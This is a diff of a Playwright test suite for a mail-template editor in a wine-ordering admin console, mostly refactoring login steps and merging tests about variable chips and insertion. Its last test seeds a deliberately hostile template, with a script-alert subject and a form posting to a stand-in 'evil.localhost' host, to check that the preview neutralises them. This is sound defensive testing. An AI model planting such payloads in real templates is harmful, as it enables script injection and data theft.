@@ -1,7 +1,7 @@
 import type { Locator, Page } from 'playwright/test';
 import { EVENT_TYPES } from '@/lib/mail/templates/input';
 import type { Group } from '@/test/support/group';
-import { expect, logIn, test } from '../fixtures';
+import { expect, logIn, openConsole, test } from '../fixtures';
 import { expectMail, refuseMailTo } from '../support/mail';
 import { holdScripts, press } from '../support/steps';
 
@@ -41,10 +41,17 @@ const body = (page: Page) => page.getByLabel('Message, in HTML');
 test('a message is written in fields, previewed, and saved', { tag: '@sites' }, async ({ page, group }) => {
   const id = await addTemplate(group);
   await addStarterText(group, id);
-  await logIn(page, group);
-  await page.goto(editor(group, id));
+  await openConsole(page, group, editor(group, id));
   const text = page.getByLabel('Text', { exact: true });
   await expect(text).toHaveValue('there is news.');
+  // A variable looks like a chip, and an unknown one stands out while one types.
+  const chips = (words: string) => page.locator('.chip', { hasText: words });
+  await expect(chips('{{name}}').first()).not.toHaveClass(/chip-unknown/);
+  await text.fill('Wine in {{nmae}}');
+  await expect(chips('{{nmae}}')).toHaveClass(/chip-unknown/);
+  const [behind, letters] = [await chips('{{nmae}}').boundingBox(), await text.boundingBox()];
+  expect(behind?.y).toBeGreaterThan(letters?.y ?? 0);
+  expect(behind?.x).toBeGreaterThan((letters?.x ?? 0) + 40);
   await text.fill('there is <wine>:\n\nred & white');
   await page.getByLabel('Dates and places').fill('Order until: {{order_deadline_at}}');
   await seen(message(page).getByText('there is <wine>:', { exact: true }));
@@ -65,8 +72,7 @@ test('a message is written in fields, previewed, and saved', { tag: '@sites' }, 
 
 test('a test mail with the unsaved wording is sent to the administrator', async ({ page, group }) => {
   const id = await addTemplate(group);
-  await logIn(page, group);
-  await page.goto(editor(group, id));
+  await openConsole(page, group, editor(group, id));
   await page.getByLabel('Subject', { exact: true }).fill(`Try ${group.host}`);
   await body(page).fill('<p>A new body</p>');
   await refuseMailTo(group.admin.email, 1);
@@ -82,23 +88,11 @@ test('a test mail with the unsaved wording is sent to the administrator', async 
   await expectMail(page, group.admin.email, `Again ${group.host}`);
 });
 
-test('the variables of the event are listed with what they mean', async ({ page, group }) => {
-  const id = await addTemplate(group, { event_type: 'order_confirmed' });
-  await logIn(page, group);
-  await page.goto(editor(group, id));
-  await page.getByText('All variables and what they mean').click();
-  await expect(page.getByText('{{order_lines}}')).toBeVisible();
-  await expect(page.getByText('The ordered wines as a table').last()).toBeVisible();
-  const listed = await page.getByRole('term').count();
-  await expect(page.getByRole('button', { name: /^Insert: / })).toHaveCount(listed);
-});
-
 test('HTML is turned into fields and back, and the page tells what that loses', async ({ page, group }) => {
   const id = await addTemplate(group, {
     body_html: '<h2>Hello {{name}}</h2><img src="x.png"><p>Wine</p>',
   });
-  await logIn(page, group);
-  await page.goto(editor(group, id));
+  await openConsole(page, group, editor(group, id));
   await body(page).fill('<h2>Hello {{name}}</h2><img src="x.png"><p>More wine</p>');
   await press(page, 'Use fields');
   await expect(page.getByText('pictures and links are lost once you save')).toBeVisible();
@@ -116,10 +110,9 @@ test('HTML is turned into fields and back, and the page tells what that loses', 
   await expect(text).toHaveValue('Hello {{name}}\n\nMore wine');
 });
 
-test('a useful variable that the wording lacks is added with one press', async ({ page, group }) => {
+test('variables are listed, inserted at the cursor, and added where missing', async ({ page, group }) => {
   const id = await addTemplate(group);
-  await logIn(page, group);
-  await page.goto(editor(group, id));
+  await openConsole(page, group, editor(group, id));
   const unused = page.getByRole('region', { name: 'Not in this message' });
   await unused.getByRole('button', { name: 'Add: When the wine can be picked up' }).click();
   await expect(body(page)).toHaveValue('<p>Hello {{name}}</p> {{pickup_at}}');
@@ -130,15 +123,25 @@ test('a useful variable that the wording lacks is added with one press', async (
   await press(page, 'Save template');
   await expect(page.getByText('Saved.')).toBeVisible();
   expect((await group.api(`/mail-templates/${id}`)).body_html).toContain('{{pickup_at}}');
+  await page.getByText('All variables and what they mean').click();
+  await expect(page.getByText('When the wine can be picked up').last()).toBeVisible();
+  const listed = await page.getByRole('term').count();
+  await expect(page.getByRole('button', { name: /^Insert: / })).toHaveCount(listed);
+  await body(page).fill('<p>Dear !</p>');
+  await body(page).evaluate((field: HTMLTextAreaElement) => field.setSelectionRange(8, 8));
+  await press(page, 'Insert: The participant’s name');
+  await expect(body(page)).toHaveValue('<p>Dear {{name}}!</p>');
+  await expect(body(page)).toBeFocused();
+  await page.keyboard.press('Control+z');
+  await expect(body(page)).toHaveValue('<p>Dear !</p>');
+  await page.getByLabel('Subject', { exact: true }).fill('Wine: ');
+  await press(page, 'Insert: The round’s name');
+  await expect(page.getByLabel('Subject', { exact: true })).toHaveValue('Wine: {{round_name}}');
 });
 
-test('an unknown variable is marked in the preview, and asked about before it is saved', async ({
-  page,
-  group,
-}) => {
+test('an unknown variable is marked, and asked about before it is saved', async ({ page, group }) => {
   const id = await addTemplate(group, { body_html: '<p>Hello {{nmae}}</p>' });
-  await logIn(page, group);
-  await page.goto(editor(group, id));
+  await openConsole(page, group, editor(group, id));
   await seen(message(page).locator('mark').getByText('{{nmae}}'));
   await seen(preview(page).getByText('Did you mean {{name}}?'));
   await page.getByLabel('Subject', { exact: true }).fill('Wine');
@@ -160,8 +163,7 @@ test('an unknown variable is marked in the preview, and asked about before it is
 });
 
 test('a route gets the starter set, and gets deleted templates of it again', async ({ page, group }) => {
-  await logIn(page, group);
-  await page.goto(`${group.consoleUrl}/admin/settings`);
+  await openConsole(page, group, '/admin/settings');
   await page.getByRole('link', { name: 'Templates' }).click();
   await expect(page.getByRole('heading', { name: 'Templates' })).toBeVisible();
   await expect(page.getByText('Missing')).toHaveCount(EVENT_TYPES.length);
@@ -189,8 +191,7 @@ for (const scripts of [true, false]) {
       await addParticipant(group, 'Ann');
       await addParticipant(group, 'Bo');
       const id = await addTemplate(group);
-      await logIn(page, group);
-      await page.goto(editor(group, id));
+      await openConsole(page, group, editor(group, id));
       await seen(preview(page).getByText('About Autumn round', { exact: true }));
       await seen(message(page).getByText('Hello Ann'));
       await page.getByLabel('Subject', { exact: true }).fill('For {{name}}');
@@ -217,8 +218,7 @@ for (const scripts of [true, false]) {
 test('a message is previewed in the scheme and at the width of a phone', async ({ page, group }) => {
   const style = 'p { color: rgb(1, 2, 3) } @media (prefers-color-scheme: dark) { p { color: rgb(9, 8, 7) } }';
   const id = await addTemplate(group, { body_html: `<style>${style}</style><p>Hello</p>` });
-  await logIn(page, group);
-  await page.goto(editor(group, id));
+  await openConsole(page, group, editor(group, id));
   const hello = message(page).getByText('Hello');
   await expect(hello).toHaveCSS('color', 'rgb(1, 2, 3)');
   await page.getByLabel('Dark').check();
@@ -230,44 +230,7 @@ test('a message is previewed in the scheme and at the width of a phone', async (
   }).toPass();
 });
 
-test('a variable is inserted at the last cursor position, and can be undone', async ({ page, group }) => {
-  const id = await addTemplate(group);
-  await logIn(page, group);
-  await page.goto(editor(group, id));
-  await body(page).fill('<p>Dear !</p>');
-  await body(page).evaluate((field: HTMLTextAreaElement) => field.setSelectionRange(8, 8));
-  await press(page, 'Insert: The participant’s name');
-  await expect(body(page)).toHaveValue('<p>Dear {{name}}!</p>');
-  await expect(body(page)).toBeFocused();
-  await page.keyboard.press('Control+z');
-  await expect(body(page)).toHaveValue('<p>Dear !</p>');
-  await page.getByLabel('Subject', { exact: true }).fill('Wine: ');
-  await press(page, 'Insert: The round’s name');
-  await expect(page.getByLabel('Subject', { exact: true })).toHaveValue('Wine: {{round_name}}');
-});
-
-test('a variable in a field looks like a chip, and an unknown one stands out while one types', async ({
-  page,
-  group,
-}) => {
-  const id = await addTemplate(group);
-  await addStarterText(group, id);
-  await logIn(page, group);
-  await page.goto(editor(group, id));
-  const chips = (text: string) => page.locator('.chip', { hasText: text });
-  await expect(chips('{{name}}').first()).not.toHaveClass(/chip-unknown/);
-  const text = page.getByLabel('Text', { exact: true });
-  await text.fill('Wine in {{nmae}}');
-  await expect(chips('{{nmae}}')).toHaveClass(/chip-unknown/);
-  const [behind, letters] = [await chips('{{nmae}}').boundingBox(), await text.boundingBox()];
-  expect(behind?.y).toBeGreaterThan(letters?.y ?? 0);
-  expect(behind?.x).toBeGreaterThan((letters?.x ?? 0) + 40);
-});
-
-test('text typed before the scripts load is shown in the preview, and typing continues there', async ({
-  page,
-  group,
-}) => {
+test('text typed before the scripts load is shown in the preview', async ({ page, group }) => {
   const id = await addTemplate(group);
   await logIn(page, group);
   const arrive = await holdScripts(page);
@@ -283,8 +246,7 @@ test('text typed before the scripts load is shown in the preview, and typing con
 
 test('leaving asks while a wording is not saved, however often it was previewed', async ({ page, group }) => {
   const id = await addTemplate(group);
-  await logIn(page, group);
-  await page.goto(editor(group, id));
+  await openConsole(page, group, editor(group, id));
   await page.getByLabel('Subject', { exact: true }).fill('Something else');
   await seen(preview(page).getByText('Something else', { exact: true }));
   const asked: string[] = [];
@@ -307,8 +269,7 @@ test('going back leaves the page, however often the preview changed', { tag: '@s
   group,
 }) => {
   const id = await addTemplate(group);
-  await logIn(page, group);
-  await page.goto(`${group.consoleUrl}/admin/templates`);
+  await openConsole(page, group, '/admin/templates');
   await page.goto(editor(group, id));
   for (const word of ['One', 'Two', 'Three']) {
     await page.getByLabel('Subject', { exact: true }).fill(word);
@@ -339,8 +300,7 @@ test('a hostile template has no effect', { tag: '@sites' }, async ({ page, group
     <form action="http://evil.localhost/form" target="_top"><input name="x"><button>Send it</button></form>
     <p>Still here</p></body></html>`;
   const id = await addTemplate(group, { subject: '<script>alert(1)</script> {{name}}', body_html: hostile });
-  await logIn(page, group);
-  await page.goto(editor(group, id));
+  await openConsole(page, group, editor(group, id));
   const here = page.url();
   const open = page.context().pages();
   await seen(message(page).getByText('Still here'));
